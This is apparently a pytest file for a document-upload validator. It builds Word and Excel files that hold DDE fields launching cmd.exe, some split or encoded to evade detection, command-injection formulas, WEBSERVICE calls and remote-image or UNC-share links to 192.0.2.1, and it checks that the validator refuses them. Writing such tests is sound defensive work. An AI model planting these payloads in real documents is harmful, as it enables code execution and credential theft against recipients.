"""Word and Excel files that ask a program, a server or another file by their fields, formulas and relations."""

from __future__ import annotations

import io
import time
import zipfile
from collections.abc import Mapping

import openpyxl
import pytest
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from webapp.letters.samples import samples
from webapp.letters.word import to_docx
from webapp.usecases.file_kinds import ActiveContent, LinkedShare, WrongKind, kind_of

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
BEGIN, MIDDLE, END = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "separate", "end"))
OUT = '<Relationships><Relationship Id="r1" Type="x/{kind}" Target="{to}" TargetMode="External"/></Relationships>'


def package(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def word(body: str, more: Mapping[str, bytes] | None = None) -> bytes:
    return package({"word/document.xml": f"<w:document {W} {R}>{body}</w:document>".encode(), **(more or {})})


def book(part: str, name: str = "xl/worksheets/sheet1.xml") -> bytes:
    return package({"xl/workbook.xml": b"<workbook/>", name: part.encode()})


def words(*texts: str) -> str:
    return "".join(f"<w:p><w:r><w:instrText>{one}</w:instrText></w:r></w:p>" for one in texts)


def fields(*texts: str) -> str:
    return BEGIN + words(*texts) + MIDDLE + "<w:r><w:t>1</w:t></w:r>" + END


def formula(text: str) -> bytes:
    return book(f"<worksheet><c><f>{text}</f><v>1</v></c></worksheet>")


QUOTE = fields("QUOTE 68 68 69")
ACTIVE = {
    "数据交换.docx": word(fields("DDEAUTO c:\\\\windows\\\\cmd.exe")),
    "拆成几段.docx": word(fields(" D", "D", "E AUTO", ' excel "x"')),
    "一段一个字母.docx": word(fields(*"ddeauto excel x")),
    "中间有可见的字.docx": word(BEGIN + words("DD") + "<w:r><w:t>x</w:t></w:r>" + words("E a b") + END),
    "中间有删去的字.docx": word(BEGIN + words("D") + "<w:r><w:delInstrText>DE a</w:delInstrText></w:r>" + END),
    "没有结尾.docx": word(BEGIN + words("DDE a b")),
    "域名由域拼成.docx": word(BEGIN + QUOTE + words(" a b") + MIDDLE + END),
    "域名一半由域拼成.docx": word(BEGIN + words("D") + QUOTE + words(" a b") + END),
    "外层是条件.docx": word(BEGIN + words("IF 1 = 1 ") + fields("DDE a b") + END),
    "两种写法.docx": word(
        BEGIN
        + words("D")
        + f"<x:AlternateContent xmlns:x='m'><x:Choice>{words('DE a')}</x:Choice></x:AlternateContent>"
        + END
    ),
    "简单域.docx": word("<w:fldSimple w:instr=' dde a b'/>"),
    "简单域转义.docx": word("<w:fldSimple w:instr='&#68;DE a b'/>"),
    "链接对象.docx": word(fields('LINK Excel.Sheet.12 "C:\\\\a.xlsx" "x"')),
    "插入文件.docx": word(fields('INCLUDETEXT "C:\\\\a.docx"')),
    "引用文件.docx": word(fields('RD "C:\\\\a.docx"')),
    "数据库.docx": word(fields('DATABASE \\d "C:\\\\a.mdb"')),
    "网上的图片.docx": word(fields('INCLUDEPICTURE "htt', 'p://192.0.2.1/a.png" \\d')),
    "共享里的图片.docx": word(fields('INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\a.png"')),
    "地址由域拼成.docx": word(BEGIN + words("INCLUDEPICTURE ") + QUOTE + END),
    "页眉.docx": word("", {"word/header1.xml": f"<w:hdr {W}>{fields('DDE a b')}</w:hdr>".encode()}),
    "换种编码.docx": word("", {"word/a.xml": f"<w:hdr {W}>{fields('DDE a b')}</w:hdr>".encode("utf-16")}),
    "冒充图片的部件.docx": word("", {"word/a.png": f"<w:hdr {W}>{fields('DDE a b')}</w:hdr>".encode()}),
    "冒充链接的模板.docx": word(
        "<w:attachedTemplate r:id='r1'/>",
        {"word/_rels/document.xml.rels": OUT.format(kind="hyperlink", to="http://192.0.2.1/a").encode()},
    ),
    "图形里的图片.docx": word("<v:imagedata xmlns:v='v' src='http://192.0.2.1/a.png'/>"),
    "邮件合并.docx": word("", {"word/settings.xml": b"<w:s xmlns:w='w'><w:connectString/></w:s>"}),
    "网上的插件.docx": word(
        "", {"_rels/.rels": b"<R><Relationship Type='x/webextensiontaskpanes' Target='a.xml'/></R>"}
    ),
    "夹带的包.docx": word("", {"word/_rels/document.xml.rels": b"<R><Relationship Type='x/Package ' Target='a'/></R>"}),
    "命令.xlsx": formula("cmd|'/c calc'!A0"),
    "命令二.xlsx": formula("1+MSEXCEL|'\\..\\cmd.exe /c x'!''"),
    "网络服务.xlsx": formula("_xlfn.WEBSERVICE(&quot;http://192.0.2.1/&quot;&amp;A1)"),
    "网上的图片.xlsx": formula("_xlfn.IMAGE (A1)"),
    "实时数据.xlsx": formula("rtd(&quot;a&quot;,,1)"),
    "另一份表.xlsx": formula("'\\\\192.0.2.1\\a\\[b.xlsx]一'!A1"),
    "另一个程序.xlsx": formula("DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)"),
    "名称里的命令.xlsx": book("<w><definedName name='x'>cmd|'/c'!A0</definedName></w>", "xl/x.xml"),
    "名称里的函数.xlsx": book("<w><definedName name='x'>EXEC(&quot;calc&quot;)</definedName></w>", "xl/x.xml"),
    "条件格式.xlsx": book("<w><cfRule><formula>WEBSERVICE(A1)</formula></cfRule></w>"),
    "数据链接.xlsx": book("<externalLink><ddeLink ddeService='cmd'/></externalLink>", "xl/x.xml"),
    "数据源.xlsx": book("<c><dbPr connection='x'/></c>", "xl/x.xml"),
}
SHARES = {
    "链接.docx": word(
        "<w:hyperlink r:id='r1'/>",
        {"word/_rels/document.xml.rels": OUT.format(kind="hyperlink", to="file://192.0.2.1/a").encode()},
    ),
    "链接二.docx": word(fields('HYPERLINK "\\\\\\\\192.0.2.1\\\\a"')),
    "链接三.docx": word("<v:shape xmlns:v='v' href='\\\\192.0.2.1\\a'/>"),
    "链接四.docx": word(fields('HYPERLINK "ms-word:ofe|u|http://192.0.2.1/a"')),
    "链接.xlsx": formula("HYPERLINK(&quot;\\\\192.0.2.1\\a&quot;,&quot;一&quot;)"),
}


@pytest.mark.parametrize("name", ACTIVE)
def test_what_asks_a_program_a_server_or_another_file_is_refused(name: str):
    with pytest.raises(ActiveContent) as refused:
        kind_of(name, ACTIVE[name])

    assert not isinstance(refused.value, LinkedShare)


@pytest.mark.parametrize("name", SHARES)
def test_a_link_to_a_shared_folder_is_refused_with_a_sentence_of_its_own(name: str):
    with pytest.raises(LinkedShare, match="共享文件夹"):
        kind_of(name, SHARES[name])


CALM = {
    "页码.docx": word(fields("PAGE") + fields("=", "1+2") + fields('TOC \\o "1-3" \\h') + fields(' DATE \\@ "yyyy"')),
    "算出来的.docx": word(BEGIN + words("= ") + fields("PAGE") + words(" + 1") + END + BEGIN + END),
    "插入的文献.docx": word(fields('ADDIN ZOTERO_ITEM {"a":"link http://x"}')),
    "本机的图片.docx": word(fields('INCLUDEPICTURE "C:\\\\Users\\\\x\\\\a.png" \\* MERGEFORMAT')),
    "网页链接.docx": word(
        "<w:hyperlink r:id='r1'/>" + fields('HYPERLINK "https://example.com/a//b"') + fields('HYPERLINK \\l "_Toc1"'),
        {"word/_rels/document.xml.rels": OUT.format(kind="hyperlink", to="file:///C:/a.docx").encode()},
    ),
    "公式.docx": word("<m:f xmlns:m='http://schemas.openxmlformats.org/officeDocument/2006/math'><m:t>|x|</m:t></m:f>"),
    "正文里说到.docx": word("<w:p><w:r><w:t>DDEAUTO cmd|'/c'!A0 http://x</w:t></w:r></w:p>"),
    "求和.xlsx": formula("SUM('一|二'!A1:A9)&amp;&quot;a|b WEBSERVICE(&quot;&amp;IMAGESIZE"),
    "网页.xlsx": formula("HYPERLINK(&quot;https://example.com//a&quot;)"),
}


@pytest.mark.parametrize("name", CALM)
def test_what_only_looks_like_it_passes(name: str):
    assert kind_of(name, CALM[name]) == name.rpartition(".")[2]


def test_what_office_programs_and_the_office_itself_write_passes():
    written, sheet = Document(), openpyxl.Workbook()
    run = written.add_paragraph("第").add_run()
    for kind in ("begin", "end"):
        mark = OxmlElement("w:fldChar")
        mark.set(qn("w:fldCharType"), kind)
        run._r.append(mark)
    sheet.create_sheet("一|二")["A1"] = "=SUM(B1:B9)"
    one, two = io.BytesIO(), io.BytesIO()
    written.save(one)
    sheet.save(two)

    assert [kind_of("a.docx", one.getvalue()), kind_of("b.xlsx", two.getvalue())] == ["docx", "xlsx"]
    assert {kind_of("函.docx", to_docx(letter)) for _, letter in tuple(samples())[::6]} == {"docx"}


def test_a_part_that_is_no_xml_or_declares_a_type_is_refused():
    for part in (b"<a", b"<!DOCTYPE a><a/>", "<a b='&c;'/>".encode("utf-16")):
        with pytest.raises(WrongKind):
            kind_of("坏.docx", word("", {"word/settings.xml": part}))


def test_much_is_read_in_the_time_of_its_bytes_and_too_much_not_at_all():
    cells = "<c r='A1'><v>12</v></c>" * 200_000
    began = time.process_time()

    assert kind_of("大.xlsx", book(f"<worksheet>{cells}</worksheet>")) == "xlsx"
    with pytest.raises(WrongKind):
        kind_of("太大.xlsx", book(f"<worksheet>{' ' * 110_000_000}</worksheet>"))

    assert time.process_time() - began < 20
